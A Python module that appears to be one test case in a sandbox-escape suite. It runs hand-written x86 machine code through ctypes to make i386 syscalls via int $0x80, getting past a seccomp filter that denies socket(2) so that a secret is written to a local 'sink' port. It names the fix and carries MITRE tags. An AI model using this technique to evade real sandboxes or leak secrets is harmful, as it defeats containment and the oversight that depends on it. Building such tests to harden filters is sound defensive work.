# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host, past a filter that denies socket(2).
Means: nine instructions of machine code in an executable page, called through ctypes. One of them
       is int $0x80, so the call numbers are those of i386. It takes no compiler.

The registers carry 32 bits, so all that is pointed to lives in the same page, below 4 GiB.
"""

import ctypes
import mmap
import os
import socket
import struct

from attack import DONE, attempting, denied, failed

MAP_32BIT = 0x40
WRITE, SOCKET, CONNECT = 4, 359, 362  # the numbers of i386
CODE = bytes.fromhex(
    "53"  # push rbx                      i386(nr, a, b, c):
    "89f8 89f3"  # mov eax, edi; mov ebx, esi    eax = nr, ebx = a
    "4189c8"  # mov r8d, ecx
    "89d1 4489c2"  # mov ecx, edx; mov edx, r8d    ecx = b, edx = c
    "cd80"  # int 0x80
    "5b c3"  # pop rbx; ret
)
ADDRESS, SECRET = 256, 512  # where they lie in the page


def run(brief):
    secret = brief.secret.encode()[:128]
    try:
        page = mmap.mmap(-1, mmap.PAGESIZE,
                         flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                         prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError as why:
        return failed("an executable page", why)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    to = struct.pack("=H", socket.AF_INET) + struct.pack("!HL8x", brief.sink, 0x7F000001)
    page[:len(CODE)] = CODE
    page[ADDRESS:ADDRESS + len(to)] = to
    page[SECRET:SECRET + len(secret)] = secret
    i386 = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(base)
    attempting()
    fd = i386(SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
    if fd < 0:
        return denied("int $0x80, socket", os.strerror(-fd))
    for nr, at, size in (CONNECT, ADDRESS, len(to)), (WRITE, SECRET, len(secret)):
        result = i386(nr, fd, base + at, size)
        if result < 0:
            return denied(f"int $0x80, {nr}", os.strerror(-result))
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host although socket(2) is denied",
    "means": "machine code called through ctypes: int $0x80 from Python",
    "oracle": "sink",
    "needs": ["x86_64", "ia32"],
    "id": "SCF-01",
    "attack_id": "T1106, T1620, CWE-693",
    "remedy": "a filter that kills on every architecture but its own",
    "refs": ["seccomp(2)"],
    "run": run,
}
